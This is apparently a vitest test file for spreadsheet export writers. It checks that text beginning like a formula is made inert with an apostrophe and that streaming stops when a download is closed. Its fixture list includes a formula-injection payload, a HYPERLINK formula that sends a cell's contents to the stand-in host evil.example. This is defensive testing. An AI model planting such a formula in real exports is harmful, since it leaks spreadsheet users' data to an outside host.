import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildWorkbook } from './write-sheet.ts';
import { streamXlsx } from './xlsx-stream.ts';

/** Text that a spreadsheet would run as a formula once edited or saved as CSV. */
const LIVE = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', '+86-138', '-1+2', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const PLAIN = ['李秀英', 'a=b', '２０２３年', "'已有引号"];

async function readBack(buffer: Buffer): Promise<ExcelJS.Cell[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  wb.worksheets[0]?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

/** XML reads a carriage return back as a line feed (its end-of-line rule); the apostrophe is what matters. */
const lf = (v: unknown) => (typeof v === 'string' ? v.replace(/\r/g, '\n') : v);

function expectInert(cells: ExcelJS.Cell[]) {
  const values = cells.map((c) => lf(c.value));
  for (const text of LIVE) expect(values).toContain(lf(`'${text}`));
  for (const text of PLAIN) expect(values).toContain(text);
  // Numbers stay numbers, negative ones too.
  expect(values).toContain(-5);
  expect(cells.every((c) => c.type !== ExcelJS.ValueType.Formula)).toBe(true);
}

describe('exports never write a live formula', () => {
  it('the small-export writer (exceljs) prefixes text that starts like a formula with an apostrophe', async () => {
    const rows = [...LIVE, ...PLAIN, -5].map((v) => ({ v }));
    const buffer = await buildWorkbook('表', [{ header: '值', value: (r: { v: string | number }) => r.v }], rows, '=标题');
    const cells = await readBack(buffer);
    expectInert(cells);
    expect(cells[0]?.value).toBe("'=标题");
  });

  it('the streaming writer does the same', async () => {
    const stream = streamXlsx({ sheetName: '表', widths: [20, 10] }, async (sheet) => {
      for (const text of [...LIVE, ...PLAIN]) sheet.row([text, -5]);
      await sheet.flush();
    });
    const chunks: Buffer[] = [];
    for await (const chunk of stream) chunks.push(chunk as Buffer);
    expectInert(await readBack(Buffer.concat(chunks)));
  });
});

describe('the streaming writer', () => {
  it('stops filling when the reader goes away (a closed download releases its query)', async () => {
    let rows = 0;
    let stopped: unknown = null;
    const filling = new Promise<void>((resolve) => {
      const stream = streamXlsx({ sheetName: '表', widths: [40] }, async (sheet) => {
        try {
          for (;;) {
            for (let i = 0; i < 1000; i++) sheet.row([`第 ${++rows} 行 ${'内容'.repeat(20)}`]);
            await sheet.flush();
          }
        } catch (error) {
          stopped = error;
          resolve();
          throw error;
        }
      });
      stream.on('data', () => {
        if (rows >= 5000) stream.destroy();
      });
    });
    await filling;
    expect(stopped).toBeInstanceOf(Error);
    expect(rows).toBeLessThan(1_000_000);
  });
});
